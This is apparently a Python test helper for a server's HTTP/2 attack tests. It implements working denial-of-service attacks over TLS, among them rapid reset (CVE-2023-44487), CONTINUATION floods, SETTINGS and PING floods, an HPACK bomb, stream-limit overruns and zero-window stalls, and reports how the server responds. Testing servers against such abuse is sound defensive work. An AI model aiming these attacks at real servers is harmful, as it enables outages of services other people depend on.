#!/usr/bin/python3
"""HTTP/2 abuse against a TLS listener, one attack per run, for Http2AttackTests.

usage: h2attack.py ATTACK HOST PORT [COUNT]
Writes raw frames (hyperframe, hpack: Debian's python3-h2 brings both) after the client preface, reads whatever the
server sends back without acting on it, and prints one JSON line: frames sent, the GOAWAY error code if one came,
whether the server closed the connection, and the seconds taken. Bounded: COUNT frames and 30 s at most.
"""
import faulthandler
import json
import select
import socket
import ssl
import sys
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(host, port):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection((host, port), timeout=30)
    tls = context.wrap_socket(raw, server_hostname="a.test")
    if tls.selected_alpn_protocol() != "h2":
        raise SystemExit("the server did not agree to h2")
    return tls


class Connection:
    """
    The TLS connection, read and written from this one thread. OpenSSL must not be used on one connection from two
    threads at once, and Python's ssl module takes no lock of its own: with a reader thread beside the writer, the
    script died now and then on a busy machine, without a word, while the server cut the connection under both. So
    sending also reads whatever the server sent meanwhile, and waiting is reading. Remembers a GOAWAY; with read=False it
    never reads (to stall the server), as a client that does not read its socket.
    """

    def __init__(self, tls, read=True):
        self.tls = tls
        self.read = read
        self.goaway = None
        self.closed = False
        self.data = 0
        self.buffer = b""
        tls.setblocking(False)

    def send(self, frames, deadline):
        """Writes the frames (or raw bytes), reading meanwhile; raises OSError when the connection fails or the deadline passes."""
        data = memoryview(b"".join(f if isinstance(f, bytes) else f.serialize() for f in frames))
        while data:
            if self.closed:
                raise ConnectionResetError("the server closed the connection")
            left = deadline - time.monotonic()
            if left <= 0:
                raise TimeoutError("sending took past the deadline")
            readable, writable, _ = select.select([self.tls] if self.read else [], [self.tls], [], left)
            if readable:
                self.read_available()
            if writable:
                chunk = data[:16384]  # the same bytes again after a want-write, as OpenSSL asks of a retried write
                try:
                    data = data[self.tls.send(chunk):]
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    continue

    def wait(self, seconds):
        """Reads until the server closes or the time is up (sleeps when not reading)."""
        end = time.monotonic() + seconds
        while not self.closed and time.monotonic() < end:
            if not self.read:
                time.sleep(min(0.05, max(0, end - time.monotonic())))
                continue
            readable, _, _ = select.select([self.tls], [], [], max(0, end - time.monotonic()))
            if readable:
                self.read_available()

    def read_available(self):
        """Reads what the socket and the TLS layer hold now, without waiting for more."""
        while not self.closed:
            try:
                chunk = self.tls.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except (OSError, ssl.SSLError):
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.buffer += chunk
            while len(self.buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) < 9 + length:
                    break
                body, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
                frame.parse_body(memoryview(body))
                if isinstance(frame, GoAwayFrame):
                    self.goaway = frame.error_code
                if isinstance(frame, DataFrame):
                    self.data += len(frame.data)


def headers_block(encoder, path="/", extra=()):
    return encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "a.test"), (":path", path)] + list(extra))


def main():
    faulthandler.enable()  # should the interpreter itself crash, the test sees where
    attack, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 10000
    conn = Connection(connect(host, port), read=attack != "zero-window")
    started = time.monotonic()
    deadline = started + 30

    def send(frames):
        conn.send(frames, deadline)

    settings = SettingsFrame(0)
    if attack == "zero-window":
        settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 0
    conn.send([PREFACE, settings], deadline)
    encoder = Encoder()
    sent = 0
    try:
        if attack == "rapid-reset":
            # CVE-2023-44487: open a stream and cancel it at once, over and over.
            stream = 1
            while sent < count and time.monotonic() < deadline and not conn.closed:
                batch = []
                for _ in range(100):
                    batch.append(HeadersFrame(stream, data=headers_block(encoder), flags=["END_HEADERS", "END_STREAM"]))
                    batch.append(RstStreamFrame(stream, error_code=8))
                    stream += 2
                send(batch)
                sent += 200
        elif attack in ("continuation-flood", "continuation-flood-empty"):
            # A header block that never ends: CONTINUATION after CONTINUATION, with a header each or empty.
            send([HeadersFrame(1, data=headers_block(encoder))])
            sent = 1
            while sent < count and time.monotonic() < deadline and not conn.closed:
                batch = []
                for i in range(200):
                    data = b"" if attack.endswith("empty") else encoder.encode([("x-flood-%d" % (sent + i), "v" * 50)])
                    batch.append(ContinuationFrame(1, data=data))
                send(batch)
                sent += 200
        elif attack == "settings-flood":
            while sent < count and time.monotonic() < deadline and not conn.closed:
                send([SettingsFrame(0) for _ in range(500)])
                sent += 500
        elif attack == "ping-flood":
            while sent < count and time.monotonic() < deadline and not conn.closed:
                send([PingFrame(0, opaque_data=b"12345678") for _ in range(500)])
                sent += 500
        elif attack == "hpack-bomb":
            # One large header put in the dynamic table, then referenced again and again: a small block decodes huge.
            big = ("x-bomb", "b" * 4000)
            first = encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "a.test"), (":path", "/"), big])
            again = encoder.encode([big])  # an index into the dynamic table now: a byte or two
            block = first + again * count
            send([HeadersFrame(1, data=block[:16384])])
            rest = block[16384:]
            sent = 1
            while rest and time.monotonic() < deadline and not conn.closed:
                send([ContinuationFrame(1, data=rest[:16384], flags=["END_HEADERS"] if len(rest) <= 16384 else [])])
                rest = rest[16384:]
                sent += 1
        elif attack == "stream-limit":
            # Open far more streams than SETTINGS_MAX_CONCURRENT_STREAMS allows, none of them finished.
            stream = 1
            batch = []
            for _ in range(count):
                batch.append(HeadersFrame(stream, data=headers_block(encoder, "/hold")))
                stream += 2
            send(batch)
            sent = count
            conn.wait(1)
        elif attack == "zero-window":
            # Ask for responses with no room to receive them, and never read: the server must not hold them forever.
            batch = []
            for i in range(count):
                batch.append(HeadersFrame(1 + 2 * i, data=headers_block(encoder, "/"), flags=["END_HEADERS", "END_STREAM"]))
            send(batch)
            sent = count
            conn.wait(2)
        else:
            raise SystemExit("unknown attack " + attack)
    except TimeoutError:
        pass  # the 30 s were up while sending: the server stalled, it did not close
    except (OSError, ssl.SSLError):
        conn.closed = True
    # Give the server a moment to answer the abuse with a GOAWAY or a close.
    if conn.read:
        conn.wait(3)
    print(json.dumps({"attack": attack, "sent": sent, "goaway": conn.goaway, "closed": conn.closed,
                      "seconds": round(time.monotonic() - started, 2)}))
    try:
        conn.tls.close()
    except OSError:
        pass


if __name__ == "__main__":
    main()
